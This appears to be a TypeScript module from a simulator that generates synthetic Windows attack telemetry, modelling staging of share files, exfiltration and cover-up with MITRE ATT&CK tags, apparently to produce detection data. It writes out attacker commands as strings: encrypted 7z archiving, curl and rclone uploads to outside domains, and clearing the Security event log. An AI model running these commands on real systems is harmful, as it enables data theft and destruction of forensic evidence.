import { minute, second } from '../calendar.ts';
import type { Estate } from '../estate.ts';
import type { Plot } from '../plot.ts';
import type { Process, WindowsHost } from '../windows/host.ts';
import { copiedImage, image, unlistedImage } from '../windows/images.ts';
import { logCleared } from '../windows/security.ts';
import { connect, createFile, exit, run, visit } from '../windows/sysmon.ts';

/** Files from a share into one archive; returns its path. */
export function stage(plot: Plot, server: WindowsHost, shell: Process): string {
  const { sim, random, chapter } = plot;
  const folder = random.pick(['C:\\ProgramData', 'C:\\Windows\\Temp', 'C:\\Users\\Public']);
  const archive = `${folder}\\${random.text(5, 'abcdefghijklmnopqrstuvwxyz')}.${random.pick(['7z', 'zip', 'rar', 'dat'])}`;
  const source =
    server.kind === 'server'
      ? `D:\\Shares\\${random.pick(['Finance', 'HR', 'Projects\\data-hall'])}`
      : `C:\\Users\\${shell.session.account.login}\\${random.pick(['Documents', '"OneDrive - Corvane"', 'Desktop'])}`;
  const way = random.pick(['7z', 'tar', 'powershell'] as const);
  const archiver =
    way === '7z'
      ? run(
          sim,
          server,
          shell,
          copiedImage('sevenzip', `${folder}\\7z.exe`),
          `${folder}\\7z.exe a -p${random.hex(10)} -mhe ${archive} ${source}`,
          90 * second,
        )
      : way === 'tar'
        ? run(sim, server, shell, image('tar'), `tar -czf ${archive} ${source}`, 90 * second)
        : run(
            sim,
            server,
            shell,
            image('powershell'),
            `powershell -c Compress-Archive -Path ${source} -DestinationPath ${archive}`,
            90 * second,
          );
  createFile(sim, server, archiver, archive);
  chapter.tell(
    `${source} went into ${archive}.`,
    'T1560.001',
    'T1074.001',
    server.kind === 'server' ? 'T1039' : 'T1005',
  );
  return archive;
}

export function exfiltrate(estate: Estate, plot: Plot, server: WindowsHost, shell: Process, archive: string): void {
  const { sim, random, chapter } = plot;
  const site = estate.company.internet.newcomer(random);
  const sender = random.chance(0.5)
    ? run(
        sim,
        server,
        shell,
        image('curl'),
        `curl.exe -s -k -T ${archive} https://${site.domain}/${random.hex(8)}`,
        4 * minute,
      )
    : run(
        sim,
        server,
        shell,
        unlistedImage(
          `${archive.slice(0, archive.lastIndexOf('\\'))}\\${random.pick(['rclone', 'svcsync', 'rc'])}.exe`,
          { description: 'Rsync for cloud storage', company: 'https://rclone.org', version: '1.65.2' },
        ),
        `rclone.exe copy ${archive} remote:${random.hex(6)} --no-check-certificate -q`,
        4 * minute,
      );
  visit(sim, server, sender, site);
  for (let i = random.int(0, 3); i > 0; i--)
    connect(sim, server, sender, { address: random.pick(site.addresses), port: 443 });
  chapter.tell(`The archive left for ${site.domain}.`, 'T1048', 'T1567.002');
}

export function cover(plot: Plot, server: WindowsHost, shell: Process, archive: string): void {
  const { sim, random, chapter } = plot;
  run(sim, server, shell, image('cmd'), `cmd.exe /c del /f /q ${archive}`, second);
  chapter.tell('It deleted the archive.', 'T1070.004');
  if (server.kind === 'server' && random.chance(0.5)) {
    run(sim, server, shell, image('wevtutil'), 'wevtutil cl Security', 2 * second);
    logCleared(sim, server, shell.session);
    chapter.tell('It cleared the Security log.', 'T1070.001');
  }
  exit(sim, server, shell);
}
